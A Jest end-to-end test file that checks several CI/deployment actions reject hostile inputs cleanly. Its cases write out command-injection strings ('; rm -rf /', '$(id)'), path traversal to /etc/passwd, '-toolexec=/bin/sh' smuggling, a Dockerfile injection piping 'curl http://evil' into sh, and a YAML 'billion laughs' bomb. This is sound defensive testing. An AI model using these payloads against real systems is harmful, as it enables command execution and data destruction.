/*
 * The hostile-input suite (issue 11, kept): for every action a table of bad inputs → exit 1 and the exact
 * clear error (the input named, the expected form), and nothing changed: no remote contacted where none is
 * needed, no program started, no registry or cluster writes, no files outside RUNNER_TEMP (hostile-support.ts
 * holds the checks). Wall times are printed at the end (and written to $TMPDIR/goship-hostile-figures.txt).
 * Run: GOSHIP_KEEP_INFRA=1 GOSHIP_INFRA=go-mirror,registry,cluster npm run test:e2e -- test/e2e/hostile.test.ts
 */
import { readFileSync, writeFileSync } from 'node:fs';
import https from 'node:https';
import { dirname, join } from 'node:path';
import { jest } from '@jest/globals';
import { requireEnv } from '../harness/infra.js';
import {
  clusterState,
  type HostileCase,
  hostPort,
  infra,
  kubectl,
  registryState,
  reportFigures,
  runHostile,
  scratch,
  Tripwire,
  table,
} from './hostile-support.js';

jest.setTimeout(120_000);

const mirror = new Tripwire(hostPort(infra.GO_DOWNLOAD_BASE_URL));
const registry = new Tripwire(hostPort(infra.REGISTRY));
const apiServer = new Tripwire(hostPort(/server:\s*(\S+)/.exec(readFileSync(infra.KUBECONFIG, 'utf8'))![1]!));
const tripwires = [mirror, registry, apiServer];
const at = { mirror: '', registry: '', kubeconfig: '', kubeconfigFile: join(scratch, 'kubeconfig') };
const NS = `hostile-${Date.now().toString(36)}`;
let registryBefore: Record<string, string[]>;
let clusterBefore: string[];

beforeAll(async () => {
  const [m, r, k] = await Promise.all(tripwires.map((t) => t.start()));
  at.mirror = `http://127.0.0.1:${m}`;
  at.registry = `127.0.0.1:${r}`;
  // The cluster's own kubeconfig, its server replaced by the tripwire (the API server's certificate is for
  // the IP 127.0.0.1, so TLS verification still holds).
  at.kubeconfig = readFileSync(infra.KUBECONFIG, 'utf8').replace(
    /server:\s*https:\/\/127\.0\.0\.1:\d+/,
    `server: https://127.0.0.1:${k}`,
  );
  writeFileSync(at.kubeconfigFile, at.kubeconfig);
  // The objects the bad manifests name, so that an apply that slipped through would change them.
  kubectl(['create', 'namespace', NS]);
  kubectl(['-n', NS, 'apply', '-f', '-'], MANIFEST);
  registryBefore = await registryState();
  clusterBefore = clusterState(NS);
});

afterAll(async () => {
  reportFigures();
  await Promise.all(tripwires.map((t) => t.stop()));
  try {
    kubectl(['delete', 'namespace', NS, '--wait=false']);
  } catch {}
});

const DIGEST = `sha256:${'ab'.repeat(32)}`;
const CONFIGMAP = (name: string) =>
  `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: ${name}\ndata:\n  PORT: "8080"\n`;
const MANIFEST = CONFIGMAP('hostile-app');

/** Nine levels of nine-fold aliases: 387 million leaves if expanded (the "billion laughs"). */
const YAML_BOMB = [
  'apiVersion: v1',
  'kind: ConfigMap',
  'metadata:',
  '  name: hostile-app',
  'data:',
  '  a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  ...'bcdefghi'.split('').map((l, i) => {
    const prev = 'abcdefghi'[i]!;
    return `  ${l}: &${l} [${Array(9).fill(`*${prev}`).join(',')}]`;
  }),
].join('\n');

const DUPLICATE_KEYS = `${MANIFEST}  PORT: "9090"\n`;
/** Two directory self-links: a walk that follows them is exponential. */
const SYMLINK_LOOP = { 'm/loop/a': { link: '.' }, 'm/loop/b': { link: '.' }, 'm/loop/sub/c': { link: '..' } };

// ───────────────────────────── setup-go ─────────────────────────────
describe('setup-go', () => {
  const run = (c: HostileCase) => runHostile('setup-go', c, { tripwires, env: { GO_DOWNLOAD_BASE_URL: '' } });
  const base = () => at.mirror;
  const withBase = (inputs: Record<string, string>) => ({ 'go-download-base-url': base(), ...inputs });
  const cases: (HostileCase & { failing?: string })[] = [
    {
      name: "go-version with ';' and a command",
      inputs: { 'go-version': '1.22; rm -rf /' },
      expect: ["Input 'go-version'", "'1.22; rm -rf /'", 'semver range'],
    },
    {
      name: 'go-version with $(...)',
      inputs: { 'go-version': '1.22$(id)' },
      expect: ["Input 'go-version'", "'1.22$(id)'"],
    },
    {
      name: 'go-version latest',
      inputs: { 'go-version': 'latest' },
      expect: ["Input 'go-version'", "'latest' is not a Go version", 'stable'],
    },
    {
      name: 'go-version-file outside the workspace (../)',
      inputs: { 'go-version-file': '../../../../etc/passwd' },
      expect: ["Input 'go-version-file'", "'../../../../etc/passwd' is outside the workspace"],
    },
    {
      name: 'go-version-file that is a symlink loop',
      inputs: { 'go-version-file': 'loop/go.mod' },
      files: { 'loop/go.mod': { link: 'go.mod' } },
      expect: ["Input 'go-version-file'", 'loop/go.mod'],
    },
    {
      name: 'go-version-file with no go line',
      inputs: { 'go-version-file': 'go.mod' },
      files: { 'go.mod': 'module x\n' },
      expect: ['go.mod', /go|toolchain/],
    },
    {
      name: 'architecture with shell text',
      inputs: { 'go-version': '1.22.3', architecture: 'x64;id' },
      expect: ["Input 'architecture'", "'x64;id'"],
    },
    {
      name: 'go-download-base-url not http(s)',
      inputs: { 'go-version': '1.22.3', 'go-download-base-url': 'ftp://127.0.0.1/go' },
      expect: ["Input 'go-download-base-url'", "'ftp:' is not supported", 'an http(s) URL'],
    },
    {
      name: 'go-download-base-url with a space',
      inputs: { 'go-version': '1.22.3', 'go-download-base-url': 'http://127.0.0.1:1/a b' },
      expect: ["Input 'go-download-base-url'", "'http://127.0.0.1:1/a b' is not a URL"],
    },
    {
      name: 'check-latest not a boolean',
      inputs: { 'go-version': '1.22.3', 'check-latest': 'yes please' },
      expect: ["Input 'check-latest'", "'yes please'"],
    },
    {
      name: 'gotoolchain with shell text',
      inputs: { 'go-version': '1.22.3', gotoolchain: 'local;id' },
      expect: ["Input 'gotoolchain'", "'local;id'"],
    },
    {
      name: 'cache-dependency-path outside the workspace (../)',
      inputs: { 'go-version': '1.22.3', 'cache-dependency-path': '../../../etc/*' },
      expect: ["Input 'cache-dependency-path'", '../../../etc/*'],
    },
  ];
  table(
    'setup-go',
    cases.map((c) => ({ ...c, inputs: withBase(c.inputs) })),
    run,
  );

  // Remote: the mirror serves tarballs that must be refused while extracting; the tool cache stays empty.
  const old = () =>
    `${Number(infra.GO_MIRROR_REAL_VERSION.split('.')[0])}.${Number(infra.GO_MIRROR_REAL_VERSION.split('.')[1]) - 2}.0`;
  table(
    'setup-go',
    [
      {
        name: 'a tarball with a symlink chain (q -> ../.., p -> q/../../..)',
        inputs: {},
        remote: true,
        expect: [/symlink|link/, /go\/a\/b\/(p|q)/],
      },
      {
        name: 'a tarball with an entry over the size cap (600 MiB declared)',
        inputs: {},
        remote: true,
        expect: [/go\/bomb/, /MiB|size|cap/],
      },
    ],
    (c) =>
      runHostile(
        'setup-go',
        {
          ...c,
          inputs: {
            'go-version': old(),
            'go-download-base-url': `${base()}/evil/${c.name.includes('chain') ? 'symlink-chain' : 'oversize'}`,
            cache: 'false',
          },
        },
        { tripwires, env: { GO_DOWNLOAD_BASE_URL: '' } },
      ),
  );
});

// ───────────────────────────── go-build-ldflags ─────────────────────────────
describe('go-build-ldflags', () => {
  // An explicit version: the workspace is no git checkout, and the version is not what these cases test.
  // Cases that only the go command can judge (a package or module outside the workspace's) may run it.
  const run = (c: HostileCase & { goJudges?: boolean }) =>
    runHostile(
      'go-build-ldflags',
      { ...c, inputs: { version: '1.2.3', ...c.inputs } },
      { tripwires, workspace: 'hello', allowPrograms: c.goJudges ? ['go', 'git'] : [] },
    );
  const port = (v: string): HostileCase => ({
    name: `port ${v}`,
    inputs: { port: v },
    expect: ["Input 'port'", 'a TCP port number from 1 to 65535'],
  });
  table(
    'go-build-ldflags',
    [
      port('0'),
      port('65536'),
      port('80a'),
      {
        name: "package starting with '-' (-toolexec=...)",
        inputs: { package: '-toolexec=/bin/sh' },
        expect: ["Input 'package'", "'-toolexec=/bin/sh'"],
      },
      {
        name: 'package outside the module (../)',
        goJudges: true,
        inputs: { package: '../../../../tmp' },
        expect: [/package|\.\.\/\.\.\/\.\.\/\.\.\/tmp/],
      },
      {
        name: "version with ';'",
        inputs: { version: '1.2.3;rm -rf /' },
        expect: ["Input 'version'", "'1.2.3;rm -rf /' is not a version", 'a version such as 1.2.3'],
      },
      {
        name: 'x with a name that is no Go variable',
        inputs: { x: 'main.version;id=1' },
        expect: ["Input 'x'", "'main.version;id' is not a variable name", 'main.version'],
      },
      {
        name: 'env with a bad variable name',
        inputs: { env: 'A B=1' },
        expect: ["Input 'env'", 'an environment variable name'],
      },
      {
        name: 'working-directory outside the workspace (../)',
        goJudges: true,
        inputs: { 'working-directory': '../../../../etc' },
        expect: [
          "Input 'working-directory'",
          '/etc is not inside a Go module',
          'Expected the directory of a Go module',
        ],
      },
      {
        name: 'output outside the workspace (../)',
        inputs: { output: '../../../../tmp/goship-hostile-escape/{name}' },
        expect: ["Input 'output'", "'../../../../tmp/goship-hostile-escape/{name}' is outside the workspace"],
      },
      {
        name: 'targets with shell text',
        inputs: { targets: 'linux/amd64;id' },
        expect: ["Input 'targets'", "'linux/amd64;id'"],
      },
      {
        name: 'parallel 0',
        inputs: { parallel: '0' },
        expect: ["Input 'parallel'", 'from 1 to 64'],
      },
      {
        name: 'cgo not a boolean',
        inputs: { cgo: 'maybe' },
        expect: ["Input 'cgo'", "'maybe'"],
      },
      {
        name: 'mod not one of readonly, vendor, mod',
        inputs: { mod: 'bogus' },
        expect: ["Input 'mod'", "'bogus'", 'readonly'],
      },
      {
        name: 'name with a slash (../)',
        inputs: { name: '../../evil' },
        expect: ["Input 'name'", '"../../evil" is not a plain program name', 'without / or ..'],
      },
    ],
    run,
  );
});

// ───────────────────────────── docker-multistage ─────────────────────────────
describe('docker-multistage', () => {
  const artifacts = JSON.stringify([{ name: 'hello', os: 'linux', arch: 'amd64', path: 'hello' }]);
  const run = (c: HostileCase) =>
    runHostile(
      'docker-multistage',
      {
        ...c,
        inputs: {
          image: `${at.registry}/hostile/app`,
          'insecure-registries': at.registry,
          ...c.inputs,
        },
        files: { hello: '#!/bin/sh\n', ...c.files },
      },
      // The version, commit and tags come from git: the workspace is a checkout, git may read it.
      { tripwires, workspace: 'git', allowPrograms: ['git'] },
    );
  const port = (v: string): HostileCase => ({
    name: `port ${v}`,
    inputs: { artifacts, port: v },
    expect: ["Input 'port'", 'a TCP port number from 1 to 65535'],
  });
  const refIs = 'an image reference';
  table(
    'docker-multistage',
    [
      port('0'),
      port('65536'),
      port('80a'),
      {
        name: 'image with a space',
        inputs: { artifacts, image: 'ghcr.io/acme/hello app' },
        expect: ["Input 'image'", 'hello app', refIs],
      },
      {
        name: 'image with a short digest',
        inputs: { artifacts, image: 'ghcr.io/acme/app@sha256:abc123' },
        expect: ["Input 'image'", "digest 'sha256:abc123'", 'sha256:<64'],
      },
      {
        name: 'image with a newline',
        inputs: { artifacts, image: 'ghcr.io/acme/app\nRUN id' },
        expect: ["Input 'image'", refIs],
      },
      {
        name: 'base with a newline (Dockerfile injection), dockerfile mode',
        inputs: { mode: 'dockerfile', base: 'alpine:3.20\nRUN curl http://evil | sh' },
        expect: ["Input 'base'", refIs],
      },
      {
        name: 'base with a newline, assemble mode',
        inputs: { artifacts, base: 'alpine:3.20\nRUN id' },
        expect: ["Input 'base'", refIs],
      },
      {
        name: 'base in upper case',
        inputs: { mode: 'dockerfile', base: 'Acme/Base:1' },
        expect: ["Input 'base'", 'lower-case'],
      },
      {
        name: 'base with a space',
        inputs: { artifacts, base: 'alpine :3.20' },
        expect: ["Input 'base'", refIs],
      },
      {
        name: 'base with a short digest',
        inputs: { artifacts, base: 'alpine@sha256:0123' },
        expect: ["Input 'base'", "digest 'sha256:0123'"],
      },
      {
        name: "package starting with '-' (dockerfile mode)",
        inputs: { mode: 'dockerfile', dockerfile: 'generate', package: '-toolexec=/bin/sh' },
        expect: ["Input 'package'", "'-toolexec=/bin/sh'"],
      },
      {
        name: "go-version with ';'",
        inputs: { mode: 'dockerfile', 'go-version': '1.22;id' },
        expect: ["Input 'go-version'", "'1.22;id' is not a Go version"],
      },
      {
        name: 'platforms with shell text',
        inputs: { artifacts, platforms: 'linux/amd64;id' },
        expect: ["Input 'platforms'", "'linux/amd64;id' is not a platform"],
      },
      {
        name: 'build-args with a bad name',
        inputs: { mode: 'dockerfile', 'build-args': 'A B=1' },
        expect: ["Input 'build-args'", 'a build argument name'],
      },
      {
        name: 'context outside the workspace (../)',
        inputs: { mode: 'dockerfile', context: '../../../../etc' },
        expect: ["Input 'context'", '../../../../etc'],
      },
      {
        name: 'dockerfile outside the context (../)',
        inputs: { mode: 'dockerfile', dockerfile: '../../../../etc/passwd' },
        expect: ["Input 'dockerfile'", '../../../../etc/passwd'],
      },
      {
        name: 'an artifact path outside the workspace (../)',
        inputs: {
          push: 'false',
          artifacts: JSON.stringify([
            { name: 'x', os: 'linux', arch: 'amd64', path: '../../../../etc/passwd' },
          ]),
        },
        expect: ["Input 'artifacts'", '../../../../etc/passwd'],
      },
      {
        name: 'artifacts not JSON',
        inputs: { artifacts: '[{"os":' },
        expect: ["Input 'artifacts'", 'is not JSON'],
      },
      {
        name: 'registry-ca missing',
        inputs: { artifacts, 'registry-ca': '/nonexistent/ca.pem' },
        expect: ["Input 'registry-ca'", '/nonexistent/ca.pem'],
      },
      {
        name: 'tags with an unknown rule type',
        inputs: { artifacts, tags: 'type=bogus,value=x' },
        expect: ["Input 'tags'", 'type=semver'],
      },
      {
        name: 'tags with a raw tag that is no tag',
        inputs: { artifacts, tags: 'type=raw,value=-bad tag' },
        expect: ["Input 'tags'", '-bad tag'],
      },
      {
        name: 'mode not one of auto, assemble, dockerfile',
        inputs: { mode: 'fast' },
        expect: ["Input 'mode'", "'fast'", 'assemble'],
      },
    ],
    run,
  );
});

// A registry that sends uploads to another host: the blobs may go there, the registry's password never does.
// The front is the real TLS registry (htpasswd) behind a proxy rewriting upload Locations to a foreign
// origin that records what reaches it and refuses the upload with a 401 of its own.
describe('docker-multistage: a registry redirecting uploads to another host', () => {
  const tls = requireEnv('REGISTRY_TLS', 'REGISTRY_CA', 'REGISTRY_USER', 'REGISTRY_PASSWORD');
  const certs = dirname(tls.REGISTRY_CA);
  const serverTls = {
    cert: readFileSync(join(certs, 'server.pem')),
    key: readFileSync(join(certs, 'server.key')),
  };
  const [realHost, realPort] = tls.REGISTRY_TLS.split(':') as [string, string];
  const foreignSeen: { method: string; authorization?: string }[] = [];
  const foreign = https.createServer(serverTls, (req, res) => {
    foreignSeen.push({ method: req.method!, authorization: req.headers.authorization });
    req.resume();
    res.writeHead(401, { 'www-authenticate': 'Basic realm="foreign"', 'content-type': 'application/json' });
    res.end('{"errors":[{"code":"UNAUTHORIZED","message":"authentication required"}]}');
  });
  const front = https.createServer(serverTls, (req, res) => {
    const up = https.request(
      {
        host: realHost,
        port: Number(realPort),
        method: req.method,
        path: req.url,
        headers: req.headers,
        ca: readFileSync(tls.REGISTRY_CA),
      },
      (ur) => {
        const headers = { ...ur.headers };
        if (req.method === 'POST' && typeof headers.location === 'string') {
          const l = new URL(headers.location, 'https://x');
          headers.location = `https://localhost:${(foreign.address() as { port: number }).port}${l.pathname}${l.search}`;
        }
        res.writeHead(ur.statusCode ?? 502, headers);
        ur.pipe(res);
      },
    );
    up.on('error', () => res.destroy());
    req.pipe(up);
  });
  beforeAll(async () => {
    await new Promise<void>((r) => foreign.listen(0, '127.0.0.1', r));
    await new Promise<void>((r) => front.listen(0, '127.0.0.1', r));
  });
  afterAll(() => {
    front.close();
    foreign.close();
  });
  table(
    'docker-multistage',
    [
      {
        name: 'upload Location on another host answering 401',
        inputs: {},
        remote: true,
        expect: [/401/, /credentials are only sent to/],
      },
    ],
    async (c) => {
      const frontAddr = `127.0.0.1:${(front.address() as { port: number }).port}`;
      const r = await runHostile(
        'docker-multistage',
        {
          ...c,
          inputs: {
            image: `${frontAddr}/hostile/redirected-${Date.now()}`,
            artifacts: JSON.stringify([{ name: 'hello', os: 'linux', arch: 'amd64', path: 'hello' }]),
            platforms: 'linux/amd64',
            'registry-username': tls.REGISTRY_USER,
            'registry-password': tls.REGISTRY_PASSWORD,
            'registry-ca': tls.REGISTRY_CA,
            // This case is about where the uploads go: its "binary" is a script that cannot start on scratch,
            // which the listening check would refuse before any upload.
            'listening-check': 'false',
          },
          files: { hello: '#!/bin/sh\n' },
        },
        { tripwires, workspace: 'git', allowPrograms: ['git'] },
      );
      expect(foreignSeen.length).toBeGreaterThan(0);
      expect(foreignSeen.filter((x) => x.authorization !== undefined)).toEqual([]);
      // Masked: the runner's ::add-mask:: command carries it, nothing else may.
      const printed = (r.stdout + r.stderr).replace(/^::add-mask::.*$/gm, '');
      expect(printed).not.toContain(tls.REGISTRY_PASSWORD);
      return r;
    },
  );
});

// ───────────────────────────── render-manifests ─────────────────────────────
describe('render-manifests', () => {
  const image = `ghcr.io/acme/hello@${DIGEST}`;
  const run = (c: HostileCase) =>
    runHostile('render-manifests', { ...c, inputs: { name: 'hello', image, ...c.inputs } }, { tripwires });
  const port = (input: string, v: string): HostileCase => ({
    name: `${input} ${v}`,
    inputs: { [input]: v },
    expect: [`Input '${input}'`, 'a TCP port number from 1 to 65535'],
  });
  const files = (
    name: string,
    text: string | Record<string, string | { link: string }>,
    expect: (string | RegExp)[],
  ): HostileCase => ({
    name,
    inputs: { source: 'files', files: 'm/**/*.yaml', name: '', image: '' },
    files: typeof text === 'string' ? { 'm/app.yaml': text } : text,
    expect,
  });
  table(
    'render-manifests',
    [
      port('port', '0'),
      port('port', '65536'),
      port('port', '80a'),
      port('service-port', '0'),
      {
        name: 'node-port 80a',
        inputs: { 'service-type': 'NodePort', 'node-port': '80a' },
        expect: ["Input 'node-port'", "'80a' is not a whole number", 'from 30000 to 32767'],
      },
      {
        name: 'image in upper case',
        inputs: { image: `ghcr.io/Acme/Hello@${DIGEST}` },
        expect: ["Input 'image'", 'lower-case', 'pinned by digest'],
      },
      {
        name: 'image with a space',
        inputs: { image: `ghcr.io/acme/ hello@${DIGEST}` },
        expect: ["Input 'image'"],
      },
      {
        name: 'image with a short digest',
        inputs: { image: 'ghcr.io/acme/hello@sha256:abc' },
        expect: ["Input 'image'", "digest 'sha256:abc'"],
      },
      {
        name: 'name not a DNS label',
        inputs: { name: 'Hello_World' },
        expect: ["Input 'name'", "'Hello_World'"],
      },
      {
        name: 'replicas negative',
        inputs: { replicas: '-1' },
        expect: ["Input 'replicas'"],
      },
      {
        name: 'progress-deadline not a duration',
        inputs: { 'progress-deadline': 'forever' },
        expect: ["Input 'progress-deadline'", "'forever' is not a duration"],
      },
      {
        name: 'vars with a bad name',
        inputs: { vars: 'A B=1' },
        expect: ["Input 'vars'"],
      },
      {
        name: 'files outside the workspace (../)',
        inputs: { source: 'files', files: '../../../../etc/*.conf', name: '', image: '' },
        expect: ["Input 'files'", '../../../../etc/*.conf'],
      },
      files('files: a YAML bomb (alias expansion)', YAML_BOMB, [/m\/app\.yaml:\d+/, /alias/i]),
      files('files: duplicate keys', DUPLICATE_KEYS, [/m\/app\.yaml:\d+/, /duplicate/i, 'PORT']),
      {
        name: 'files: a symlink loop and nothing else',
        inputs: { source: 'files', files: 'm/loop/**/*.yaml', name: '', image: '' },
        files: { ...SYMLINK_LOOP },
        expect: ["Input 'files'", 'm/loop/**/*.yaml'],
      },
      files('files: an unresolved ${VAR}', MANIFEST.replace('"8080"', '${HOSTILE_UNDEFINED}'), [
        /m\/app\.yaml:\d+/,
        'unresolved placeholder ${HOSTILE_UNDEFINED}',
      ]),
    ],
    run,
  );
});

// ───────────────────────────── k8s-rollout ─────────────────────────────
describe('k8s-rollout', () => {
  /** The cluster's kubeconfig without its CA, trusting any server instead. */
  const INSECURE = '@insecure-skip-tls-verify';
  const insecure = () =>
    at.kubeconfig.replace(/certificate-authority-data:.*/, 'insecure-skip-tls-verify: true');
  const run = async (c: HostileCase) => {
    const kubeconfig = c.inputs.kubeconfig === INSECURE ? insecure() : (c.inputs.kubeconfig ?? at.kubeconfig);
    const r = await runHostile(
      'k8s-rollout',
      {
        ...c,
        inputs: { namespace: NS, manifests: 'm/app.yaml', ...c.inputs, kubeconfig },
        files: { 'm/app.yaml': MANIFEST, ...c.files },
      },
      // The runner's KUBECONFIG names the real cluster (through the tripwire): never a silent fallback.
      { tripwires, env: { KUBECONFIG: at.kubeconfigFile } },
    );
    expect(r.stdout + r.stderr).not.toContain(TOKEN);
    return r;
  };
  const TOKEN = 'hostile-token-0123456789abcdef';
  table(
    'k8s-rollout',
    [
      {
        name: 'kubeconfig empty (no silent fallback to KUBECONFIG)',
        inputs: { kubeconfig: '' },
        expect: ["Input 'kubeconfig'", 'kubeconfig-from-env'],
      },
      {
        name: 'kubeconfig with duplicate keys (the token is never printed)',
        inputs: {
          kubeconfig: `apiVersion: v1\nkind: Config\nclusters: []\nusers:\n- name: u\n  user:\n    token: ${TOKEN}\n    token: ${TOKEN}x\ncurrent-context: a\ncurrent-context: b\n`,
        },
        expect: ["Input 'kubeconfig'", /duplicate/i],
      },
      {
        name: 'kubeconfig a path outside the workspace that does not exist',
        inputs: { kubeconfig: '../../../nonexistent/kubeconfig' },
        expect: ["Input 'kubeconfig'", '../../../nonexistent/kubeconfig'],
      },
      {
        name: 'kubeconfig with insecure-skip-tls-verify and no insecure input',
        inputs: { kubeconfig: INSECURE },
        expect: ["Input 'insecure'", 'insecure-skip-tls-verify'],
      },
      {
        name: 'manifests outside the workspace (../)',
        inputs: { manifests: '../../../../etc/hosts' },
        expect: ["Input 'manifests'", '../../../../etc/hosts'],
      },
      {
        name: 'manifests: a YAML bomb',
        inputs: {},
        files: { 'm/app.yaml': YAML_BOMB },
        expect: [/m\/app\.yaml:\d+/, /alias/i],
      },
      {
        name: 'manifests: duplicate keys',
        inputs: {},
        files: { 'm/app.yaml': DUPLICATE_KEYS },
        expect: [/m\/app\.yaml:\d+/, /duplicate/i],
      },
      {
        name: 'manifests: a symlink loop matching nothing',
        inputs: { manifests: 'm/loop/**/*.yaml' },
        files: { 'm/app.yaml': MANIFEST, ...SYMLINK_LOOP },
        expect: ["Input 'manifests'", 'm/loop/**/*.yaml'],
      },
      {
        name: 'timeout not a duration',
        inputs: { timeout: '10 years' },
        expect: ["Input 'timeout'", "'10 years' is not a duration"],
      },
      {
        name: 'namespace not a DNS label',
        inputs: { namespace: 'Bad_NS' },
        expect: ["Input 'namespace'", "'Bad_NS'"],
      },
      {
        name: 'failure-threshold 0',
        inputs: { 'failure-threshold': '0' },
        expect: ["Input 'failure-threshold'", 'from 1 to 1000'],
      },
      {
        name: 'wait-for an unknown kind',
        inputs: { 'wait-for': 'Pods' },
        expect: ["Input 'wait-for'", "'Pods'"],
      },
      {
        name: 'apply-set not a label value',
        inputs: { 'apply-set': 'a b' },
        expect: ["Input 'apply-set'", "'a b'"],
      },
      {
        name: 'annotations with a bad key',
        inputs: { annotations: 'bad key=1' },
        expect: ["Input 'annotations'", 'an annotation key'],
      },
      {
        name: 'prune without an apply-set',
        inputs: { prune: 'true' },
        expect: ["Input 'apply-set'", 'prune'],
      },
    ],
    run,
  );
});

// ───────────────────────────── smoke-test ─────────────────────────────
describe('smoke-test', () => {
  const url = () => `http://${at.registry}/v2/`;
  const run = (c: HostileCase) =>
    runHostile(
      'smoke-test',
      {
        ...c,
        inputs: Object.fromEntries(
          Object.entries(c.inputs).map(([k, v]) => [
            k,
            v.replace('@URL', url()).replace('@KUBECONFIG', at.kubeconfig),
          ]),
        ),
      },
      { tripwires, env: { KUBECONFIG: at.kubeconfigFile } },
    );
  const badUrl = (v: string, problem: string | RegExp): HostileCase => ({
    name: `url ${JSON.stringify(v)}`,
    inputs: { url: v },
    expect: ["Input 'url'", problem],
  });
  const duration = (input: string, v: string): HostileCase => ({
    name: `${input} ${v}`,
    inputs: { url: '@URL', [input]: v },
    expect: [`Input '${input}'`, `'${v}'`],
  });
  table(
    'smoke-test',
    [
      badUrl('http://127.0.0.1:0/', "'http://127.0.0.1:0/' has port 0"),
      badUrl('http://127.0.0.1:65536/', 'http://127.0.0.1:65536/'),
      badUrl('http://127.0.0.1:80a/', 'http://127.0.0.1:80a/'),
      badUrl('file:///etc/passwd', 'file:///etc/passwd'),
      badUrl('127.0.0.1:8080/healthz', '127.0.0.1:8080/healthz'),
      badUrl('http://exa mple.com/', "'mple.com/' is not an absolute URL"),
      {
        name: 'service port 0',
        inputs: { service: `${NS}/hello:0`, kubeconfig: '@KUBECONFIG' },
        expect: ["Input 'service'", `'${NS}/hello:0'`],
      },
      {
        name: 'service port 65536',
        inputs: { service: `${NS}/hello:65536`, kubeconfig: '@KUBECONFIG' },
        expect: ["Input 'service'", `'${NS}/hello:65536'`],
      },
      {
        name: 'service name with ../',
        inputs: { service: '../hello:80', kubeconfig: '@KUBECONFIG' },
        expect: ["Input 'service'", "'../hello:80'"],
      },
      {
        name: 'service name in upper case',
        inputs: { service: `${NS}/Hello:80`, kubeconfig: '@KUBECONFIG' },
        expect: ["Input 'service'", `'${NS}/Hello:80'`],
      },
      {
        name: 'service with an empty kubeconfig (no silent fallback to KUBECONFIG)',
        inputs: { service: `${NS}/hello:80` },
        expect: ["Input 'kubeconfig'"],
      },
      {
        name: 'neither url nor service',
        inputs: {},
        expect: ["Input 'url'", 'both url and service are empty'],
      },
      {
        name: 'expect-status not a status',
        inputs: { url: '@URL', 'expect-status': '9xx' },
        expect: ["Input 'expect-status'", "'9xx'"],
      },
      {
        name: 'expect-json with a bad regex',
        inputs: { url: '@URL', 'expect-json': '$.a =~ /(/' },
        expect: ["Input 'expect-json'", '$.a =~ /(/'],
      },
      {
        name: 'expect-json with no value after ==',
        inputs: { url: '@URL', 'expect-json': '$.a ==' },
        expect: ["Input 'expect-json'", '$.a =='],
      },
      {
        name: 'headers with a space in the name',
        inputs: { url: '@URL', headers: 'Bad Header: x' },
        expect: ["Input 'headers'", 'Bad Header'],
      },
      {
        name: 'method with a path in it',
        inputs: { url: '@URL', method: 'GET /evil' },
        expect: ["Input 'method'", "'GET /EVIL' is not an HTTP method"],
      },
      duration('timeout', 'forever'),
      duration('interval', '-1s'),
      duration('request-timeout', '10 years'),
      {
        name: 'retries -1',
        inputs: { url: '@URL', retries: '-1' },
        expect: ["Input 'retries'", '-1 is out of range', 'from 0 to 1000'],
      },
      {
        name: 'consecutive-successes 0',
        inputs: { url: '@URL', 'consecutive-successes': '0' },
        expect: ["Input 'consecutive-successes'"],
      },
      {
        name: 'latency budget not a duration',
        inputs: { url: '@URL', latency: 'p95 < soon' },
        expect: ["Input 'latency'", 'p95 < soon'],
      },
      {
        name: 'ca-file outside the workspace that does not exist',
        inputs: { url: '@URL', 'ca-file': '../../../nonexistent/ca.pem' },
        expect: ["Input 'ca-file'", '../../../nonexistent/ca.pem'],
      },
    ],
    run,
  );
});

// Last (jest runs a file's tests in order): the registry and the cluster as they were before the suite.
test('after every case: the registry catalog and tags, and the namespace objects, are unchanged', async () => {
  expect(await registryState()).toEqual(registryBefore);
  expect(clusterState(NS)).toEqual(clusterBefore);
});
